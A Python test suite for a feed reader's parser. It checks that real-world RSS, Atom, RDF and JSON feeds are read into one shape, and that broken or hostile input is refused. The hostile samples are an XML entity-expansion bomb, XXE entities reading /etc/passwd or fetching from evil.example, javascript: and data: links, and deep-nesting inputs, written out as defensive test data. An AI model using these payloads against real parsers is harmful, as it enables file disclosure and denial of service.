"""Feeds as servers send them, as they are broken, and as somebody hostile would."""

from __future__ import annotations

import json
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from fedimark.api.feeds import pinboard_path
from fedimark.bookmarks.feed_words import words_of_entry
from fedimark.inbox.feed_times import FLOOR, LONGEST, after_failure, after_reading
from fedimark.text.segments import decode
from fedimark.text.urls import looks_keyed
from fedimark.vocab.feed_parts import moment
from fedimark.vocab.feeds import Feed, NoFeed, read_feed

AT = "https://blog.example/feed"
WHEN = 1_772_272_800_000_000  # 2026-02-28T10:00:00Z

WORDPRESS = """<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"
 xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:dc="http://purl.org/dc/elements/1.1/"
 xmlns:atom="http://www.w3.org/2005/Atom" xmlns:sy="http://purl.org/rss/1.0/modules/syndication/">
<channel><title>Anna&#8217;s notes</title>
 <atom:link href="https://blog.example/feed" rel="self" type="application/rss+xml" />
 <link>https://blog.example</link><description>Just notes</description><sy:updatePeriod>hourly</sy:updatePeriod>
 <image><url>https://blog.example/i.png</url><title>Not this</title><link>https://else.example</link></image>
 <item><title>Rows &#038; columns</title><link>https://blog.example/2026/rows</link>
  <comments>https://blog.example/2026/rows/#comments</comments><dc:creator><![CDATA[anna]]></dc:creator>
  <pubDate>Sat, 28 Feb 2026 10:00:00 +0000</pubDate>
  <category><![CDATA[Machine Learning]]></category><category><![CDATA[sql]]></category>
  <guid isPermaLink="false">https://blog.example/?p=12</guid>
  <description><![CDATA[<p>How rows &amp; columns meet. <a href="/x">Read on</a></p>]]></description>
  <content:encoded><![CDATA[<p>All of it.</p>]]></content:encoded></item>
</channel></rss>"""
GITHUB = """<?xml version="1.0" encoding="UTF-8"?>
<feed xmlns="http://www.w3.org/2005/Atom" xmlns:media="http://search.yahoo.com/mrss/" xml:lang="en-US">
 <id>tag:github.com,2008:https://github.com/a/b/releases</id>
 <link type="text/html" rel="alternate" href="https://github.com/a/b/releases"/>
 <link type="application/atom+xml" rel="self" href="https://github.com/a/b/releases.atom"/>
 <title>Release notes from b</title><updated>2026-02-28T10:00:00Z</updated>
 <entry><id>tag:github.com,2008:Repository/1/v2</id><updated>2026-02-28T10:00:00Z</updated>
  <link rel="alternate" type="text/html" href="https://github.com/a/b/releases/tag/v2"/><title>v2 &lt;beta&gt;</title>
  <content type="html">&lt;h2&gt;New&lt;/h2&gt;&lt;ul&gt;&lt;li&gt;This&lt;/li&gt;&lt;/ul&gt;</content>
  <author><name>ana</name></author><media:thumbnail height="30" width="30" url="https://x.example/i"/></entry>
</feed>"""
PINBOARD = """<?xml version="1.0" encoding="UTF-8"?>
<rdf:RDF xmlns="http://purl.org/rss/1.0/" xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"
 xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:taxo="http://purl.org/rss/1.0/modules/taxonomy/"
 xmlns:dc="http://purl.org/dc/elements/1.1/">
 <channel rdf:about="http://pinboard.in"><title>Pinboard (ana)</title><link>https://pinboard.in/u:ana/</link>
  <items><rdf:Seq><rdf:li rdf:resource="https://sqlite.org/"/></rdf:Seq></items></channel>
 <item rdf:about="https://sqlite.org/"><title>SQLite</title><dc:date>2026-02-28T10:00:00+00:00</dc:date>
  <link>https://sqlite.org/</link><dc:creator>ana</dc:creator>
  <description><![CDATA[Small. Fast.]]></description><dc:subject>sql databases c++</dc:subject>
  <dc:source>https://pinboard.in/</dc:source><dc:identifier>https://pinboard.in/u:ana/b:1/</dc:identifier>
  <taxo:topics><rdf:Bag><rdf:li rdf:resource="https://pinboard.in/u:ana/t:sql/"/></rdf:Bag></taxo:topics></item>
</rdf:RDF>"""
LEMMY = """<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:media="http://search.yahoo.com/mrss/">
<channel><title>lemmy.example - tech</title><link>https://lemmy.example/c/tech</link>
<item><title>A thing happened</title><link>https://news.example/thing</link>
 <description><![CDATA[submitted by <a href="https://lemmy.example/u/bo">bo</a>]]></description>
 <comments>https://lemmy.example/post/9</comments><guid>https://lemmy.example/post/9</guid>
 <pubDate>Sat, 28 Feb 2026 10:00:00 +0000</pubDate><media:content url="https://news.example/i.jpg"/></item>
</channel></rss>"""
XHTML = """<feed xmlns="http://www.w3.org/2005/Atom" xml:base="https://base.example/blog/"><title>x</title>
<entry xml:base="2026/"><id>urn:uuid:1</id><title type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">A <em>b</em>
 &amp; c</div></title><link href="one"/><link rel="enclosure" href="one.mp3"/>
 <published>2026-02-28T10:00:00Z</published><updated>2026-03-28T10:00:00Z</updated><category term="sql" label="SQL"/>
 <summary type="text">1 &lt; 2</summary><source><id>urn:uuid:2</id><title>Not this</title><link href="https://no.example/"/>
 </source></entry></feed>"""
JSON = {
    "version": "https://jsonfeed.org/version/1.1",
    "title": "Numbers",
    "home_page_url": "https://blog.example/",
    "items": [
        {
            "id": "https://blog.example/7",
            "url": "https://blog.example/7",
            "external_url": "https://pages.example/seven",
            "title": "Seven",
            "content_html": "<p>A <b>number</b></p>",
            "summary": "A number",
            "tags": ["maths", "numbers", "maths"],
            "date_published": "2026-02-28T10:00:00Z",
        }
    ],
}


def read(said: str | bytes, content_type: str = "application/rss+xml") -> Feed:
    """As it would be read from the blog."""
    return read_feed(said if isinstance(said, bytes) else said.encode(), content_type, AT)


def rss(inside: str) -> str:
    """An RSS feed around some entries."""
    return f"<rss><channel><title>t</title>{inside}</channel></rss>"


@pytest.mark.parametrize(
    ("said", "title", "home", "entry"),
    [
        (
            WORDPRESS,
            "Anna’s notes",
            "https://blog.example",
            ("https://blog.example/?p=12", "https://blog.example/2026/rows", "Rows & columns", "Machine-Learning sql"),
        ),
        (
            GITHUB,
            "Release notes from b",
            "https://github.com/a/b/releases",
            (
                "tag:github.com,2008:Repository/1/v2",
                "https://github.com/a/b/releases/tag/v2",
                "v2 <beta>",
                "",
            ),
        ),
        (
            PINBOARD,
            "Pinboard (ana)",
            "https://pinboard.in/u:ana/",
            ("https://sqlite.org/", "https://sqlite.org/", "SQLite", "sql databases c++"),
        ),
        (
            LEMMY,
            "lemmy.example - tech",
            "https://lemmy.example/c/tech",
            ("https://lemmy.example/post/9", "https://news.example/thing", "A thing happened", ""),
        ),
        (XHTML, "x", "", ("urn:uuid:1", "https://base.example/blog/2026/one", "A b & c", "sql")),
        (
            json.dumps(JSON),
            "Numbers",
            "https://blog.example/",
            ("https://blog.example/7", "https://pages.example/seven", "Seven", "maths numbers"),
        ),
    ],
    ids=["wordpress", "github", "pinboard", "lemmy", "atom with xhtml", "json feed"],
)
def test_every_kind_of_feed_is_read_into_one_shape(said, title, home, entry):
    feed = read(said)

    only = feed.entries[0]
    words = words_of_entry(only)
    assert (feed.title, feed.home, len(feed.entries)) == (title, home, 1)
    assert words is not None
    assert (only.guid, words.url, words.title, " ".join(words.tags)) == entry
    assert only.published == WHEN


@pytest.mark.parametrize(
    ("said", "description"),
    [
        (WORDPRESS, "How rows & columns meet. Read on"),
        (GITHUB, "New\n\nThis"),
        (PINBOARD, "Small. Fast."),
        (LEMMY, "submitted by bo"),
        (XHTML, "1 < 2"),
        (json.dumps(JSON), "A number"),
    ],
    ids=["wordpress", "github", "pinboard", "lemmy", "atom with xhtml", "json feed"],
)
def test_what_an_entry_says_becomes_plain_text(said, description):
    words = words_of_entry(read(said).entries[0])

    assert words is not None
    assert words.description == description


def test_an_entry_about_a_page_elsewhere_keeps_where_it_is_talked_about():
    assert read(LEMMY).entries[0].page == "https://lemmy.example/post/9"
    assert read(json.dumps(JSON)).entries[0].page == "https://blog.example/7"


@pytest.mark.parametrize(
    ("title", "read_as"),
    [
        ("AT&amp;amp;T", "AT&T"),
        ("&lt;b&gt;bold&lt;/b&gt; words", "bold words"),
        ("Vec&lt;T&gt; and a &lt; b", "Vec<T> and a < b"),
        ("<![CDATA[Tom & <i>Jerry</i>]]>", "Tom & Jerry"),
        ("caf&eacute; &nbsp;here", "café \xa0here"),
        ("bold <b>unescaped</b> words", "bold unescaped words"),
        ("&lt;script&gt;alert(1)&lt;/script&gt;x", "<script>alert(1)</script>x"),  # text: pages escape it
    ],
)
def test_titles_are_text_whatever_their_feed_takes_them_for(title, read_as):
    words = words_of_entry(read(rss(f"<item><title>{title}</title><link>/a</link></item>")).entries[0])

    assert words is not None
    assert words.title == read_as


@pytest.mark.parametrize(
    ("link", "found"),
    [
        ("/a?x=1&y=2", "https://blog.example/a?x=1&y=2"),
        ("<![CDATA[https://x.example/?a=1&b=2]]>", "https://x.example/?a=1&b=2"),
        ("  \n https://x.example/ ", "https://x.example/"),
        ("//x.example/a", "https://x.example/a"),
    ],
)
def test_links_are_absolute_and_ampersands_forgiven(link, found):
    assert read(rss(f"<item><title>x</title><link>{link}</link></item>")).entries[0].link == found


@pytest.mark.parametrize(
    "link",
    [
        "javascript:alert(1)",
        "data:text/html,x",
        "file:///etc/passwd",
        "",
        "http://[",
        "https://a@b.example/",
        "x" * 3_000,
    ],
)
def test_an_entry_without_a_page_of_the_web_is_passed_over(link):
    found = read(rss(f"<item><title>x</title><link>{link}</link></item><item><link>https://ok.example/</link></item>"))

    assert [each.link for each in found.entries] == ["https://ok.example/"]


def test_without_ids_links_stand_for_them_and_what_is_said_twice_counts_once():
    one, two = "<link>https://x.example/1</link>", "<link>https://x.example/2</link>"
    items = [f"<title>a</title>{one}", f"<title>b</title>{one}", f"<title>a</title>{two}", f"<title>a</title>{one}"]
    items += [f"<guid>g</guid>{one}", f"<guid>g</guid>{two}"]

    found = read(rss("".join(f"<item>{each}</item>" for each in items))).entries

    guids = [each.guid for each in found]
    assert len(set(guids)) == len(guids)
    assert guids[0] == "https://x.example/1"
    assert [each.title for each in found] == ["a", "b", "a", "a", ""]


def test_no_more_than_five_hundred_entries_are_read():
    items = "".join(f"<item><link>https://x.example/{number}</link></item>" for number in range(700))

    assert len(read(rss(items)).entries) == 500
    assert len(read(json.dumps({**JSON, "items": [{"url": f"/{n}"} for n in range(700)]})).entries) == 500


@pytest.mark.parametrize(
    ("body", "content_type"),
    [
        ("é".encode(), ""),
        ("é".encode("latin-1"), ""),
        ("é".encode("latin-1"), "text/xml; charset=utf-8"),
        ("é".encode(), "text/xml; charset=iso-8859-1"),  # it declares another
        ("é".encode("utf-16"), "text/xml"),
        ("\ufeffé".encode(), "text/xml"),
        ("é".encode("koi8-r", "replace").replace(b"?", "é".encode()), 'text/xml; charset="utf-8"'),
        ("é".encode(), "text/xml; charset=idna"),
        ("é".encode(), "text/xml; charset=zlib"),
    ],
)
def test_words_survive_a_wrong_encoding(body, content_type):
    whole = '<?xml version="1.0" encoding="utf-8"?>' + rss("<item><title>@</title><link>/a</link></item>")
    is_utf16 = body.startswith((b"\xff\xfe", b"\xfe\xff"))
    said = (
        whole.replace("@", "é").encode("utf-16")
        if is_utf16
        else whole.encode().replace(b"@", body.lstrip(b"\xef\xbb\xbf"))
    )

    assert read(said, content_type).entries[0].title == "é"


@pytest.mark.parametrize(
    ("text", "at"),
    [
        ("Sat, 28 Feb 2026 10:00:00 GMT", WHEN),
        ("28 Feb 2026 11:00 +0100", WHEN),
        ("2026-02-28T10:00:00Z", WHEN),
        ("2026-02-28T05:00:00.000-05:00", WHEN),
        ("2026-02-28", WHEN - 10 * 3_600_000_000),
        ("Sat, 28 Feb 2026 10:00:00 XYZ", WHEN),
        ("yesterday", None),
        ("", None),
        ("Mon, 00 Jan 0000 99:99:99", None),
        ("1 Jan 1900 00:00:00 GMT", None),
        ("9" * 10_000, None),
        ("Sat, 28 Feb 2026 10:00:00 +99999999", None),
    ],
)
def test_moments_are_read_as_feeds_write_them(text, at):
    assert moment(text) == at


BOMB = '<!DOCTYPE rss [<!ENTITY a "ha">' + "".join(f'<!ENTITY a{n} "{"&a;" * 10}">' for n in range(30)) + "]>"


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        (b"", "not-a-feed"),
        (b"hello", "not-a-feed"),
        (b"<html><head><title>x</title></head></html>", "not-a-feed"),
        (b"<!doctype html><p>x", "not-a-feed"),
        (b"{}", "not-a-feed"),
        (b'{"version": 1, "items": []}', "not-a-feed"),
        (b"[1]", "not-a-feed"),
        (b'{"a": ' * 100_000, "too-deep"),
        (b"<a>" * 300_000, "not-a-feed"),
        (b"<rss><channel>" + b"<a>" * 300_000, "too-deep"),
        (b"<rss><channel><item>" + b"<title>" * 300_000, "too-deep"),
        (b"<rss", "not-a-feed"),
        (b"<rss><channel><item><title>x", "broken"),
        (BOMB.encode() + b"<rss>&a29;</rss>", "entities"),
        (b'<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss>&x;</rss>', "entities"),
        (b'<!DOCTYPE rss [<!ENTITY % x SYSTEM "https://evil.example/x"> %x;]><rss/>', "entities"),
        (b"<?xml version='1.0' encoding='utf-7'?>+ADw-rss+AD4-", "not-a-feed"),
        (b"\x00" * 1_000_000, "not-a-feed"),
        (b"<" * 1_000_000, "not-a-feed"),
        (b"<?xml" + b" " * 1_000_000, "not-a-feed"),
    ],
)
def test_what_is_hostile_is_refused_or_read_as_far_as_it_goes(body, reason):
    began = time.monotonic()

    with pytest.raises(NoFeed) as refusal:
        read(body)

    assert refusal.value.reason == reason
    assert time.monotonic() - began < 10  # each is of a megabyte; a hundredth of that would do


@pytest.mark.parametrize(
    "after",
    [
        "",
        "<item><title>y",
        "<item></channel>",
        "&\x00&#0;&#xFFFFFFFF;&nothing;<item>",
        "\x01\x02 <<<",
        "<![CDATA[" * 1_000,
    ],
)
def test_broken_xml_is_read_as_far_as_it_goes(after):
    whole = "<item><title>a\x00b &#1; &nbsp;&unknown; R&D</title><link>/a</link></item>"

    found = read(f"<rss><channel>{whole}{after}").entries

    assert [each.title.replace("\xa0", " ") for each in found] == ["ab   &unknown; R&D"]


@pytest.mark.parametrize(
    "piece",
    [
        "<item>",
        "<![CDATA[",
        "<!--",
        "&",
        "&amp",
        '<item xmlns:a="b">',
        "<item><title>&lt;a &lt;a",
        "<category>a</category>",
        "<?x",
        "]]>",
    ],
)
def test_time_is_in_proportion_to_the_text(piece):
    def took(times: int) -> float:
        began = time.process_time()
        try:
            for each in read("<rss><channel><item><link>/a</link></item>" + piece * times).entries:
                words_of_entry(each)
        except NoFeed:
            pass
        return time.process_time() - began  # however busy the machine is

    few = max(min(took(2_000) for _ in range(3)), 0.005)

    assert took(40_000) < few * 20 * 10  # squared it would be four hundred times


def test_a_doctype_that_declares_nothing_is_no_harm():
    doctype = (
        '<!DOCTYPE rss PUBLIC "-//Netscape//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">'
    )

    assert read(doctype + rss("<item><title>x</title><link>/a</link></item>")).entries[0].title == "x"


@pytest.mark.parametrize(
    "root",
    [
        '<rss xmlns="http://backend.userland.com/RSS2">@</rss>',
        '<rss version="0.92">@</rss>',
        '<rss version="2.0" xmlns="http://nobody.example/knows">@</rss>',
    ],
)
def test_rss_is_read_whatever_namespace_it_claims(root):
    inside = "<channel><title>t</title><item><title>x</title><link>/a</link></item></channel>"

    assert read(root.replace("@", inside)).entries[0].title == "x"


@given(st.binary(max_size=500))
def test_any_bytes_are_a_feed_or_none(body):
    for start in (
        b"",
        b"<rss><channel><item>",
        b"<feed xmlns='http://www.w3.org/2005/Atom'>",
        b'{"version": "https://jsonfeed.org/version/1",',
    ):
        _ends(start + body)


@given(
    st.sampled_from([WORDPRESS, GITHUB, PINBOARD, LEMMY, XHTML, json.dumps(JSON)]),
    st.lists(st.tuples(st.integers(0, 2_000), st.integers(0, 40), st.binary(max_size=20)), min_size=1, max_size=6),
)
def test_a_feed_changed_anywhere_is_a_feed_or_none(said, changes):
    body = said.encode()
    for at, length, instead in changes:
        body = body[:at] + instead + body[at + length :]

    _ends(body)


def _ends(body: bytes) -> None:
    """It is read or refused; what was read could be stored."""
    try:
        feed = read_feed(body, "text/xml", AT)
    except NoFeed:
        return
    for entry in feed.entries:
        assert entry.link.startswith(("http://", "https://"))
        words = words_of_entry(entry)
        if words is not None:
            text = "".join((words.url, words.title, words.description, *words.tags, entry.guid))
            assert "\x00" not in text
            text.encode()


@pytest.mark.parametrize(
    ("url", "keyed"),
    [
        ("https://blog.example/feed.xml", False),
        ("https://blog.example/2026/02/a-long-title-of-many-words/feed/", False),
        ("https://github.com/python/cpython/releases.atom", False),
        ("https://lemmy.example/feeds/c/technology.xml?sort=Active", False),
        ("https://feeds.pinboard.in/rss/u:ana/t:sql/", False),
        ("https://feeds.pinboard.in/rss/secret:abcd/u:ana/", True),
        ("https://marks.example/feeds/0a1b2c3d4e5f/all", True),
        ("https://blog.example/feed?key=x", True),
        ("https://blog.example/feed?token=x", True),
        ("https://ana:pass@blog.example/feed", True),
        ("https://blog.example/AbcDefGhiJklMnoPqr/feed", True),
        ("https://blog.example/f/550e8400-e29b-41d4-a716-446655440000", True),
        ("https://blog.example/private/feed", True),
        ("https://10.0.0.1/feed", True),
        ("https://blog.example/f%65eds/%30a1b2c3d4e5f", True),
        ("https://a1b2c3d4e5f6.blog.example/feed", True),
        ("nonsense", True),
    ],
)
def test_an_address_that_may_hold_a_key_looks_so(url, keyed):
    assert looks_keyed(url) is keyed


def test_feeds_are_read_the_later_the_quieter_they_are():
    hour = 3_600_000_000
    now = 1_000 * hour

    assert after_reading(now, now, 0, chance=0) == now + FLOOR
    assert after_reading(now, now - 24 * hour, 0, chance=0) == now + 3 * hour
    assert after_reading(now, 0, 0, chance=0) == now + LONGEST
    assert after_reading(now, now, 7_200, chance=0) == now + 2 * hour
    assert after_reading(now, now, 10**9, chance=1) <= now + 1.1 * LONGEST
    assert after_failure(now, 1, 0, chance=0) == now + FLOOR
    assert after_failure(now, 3, 0, chance=0) == now + 4 * FLOOR
    assert after_failure(now, 10_000, 10**9, chance=1) <= now + 1.1 * LONGEST


@pytest.mark.parametrize(
    "path",
    [
        *("recent/", "popular/", "t:sql/", "t:a%2Fb/t:%C3%BC/", "u:ana/", "u:ana/public/", "u:ana/t:c++/t:100%25/"),
        "u:ana/t:public/",
    ],
)
def test_a_public_path_of_pinboards_is_written_as_it_is_read(path):
    asked = pinboard_path.read([decode(part) for part in path.split("/")])

    assert pinboard_path.written(asked.stream) == path
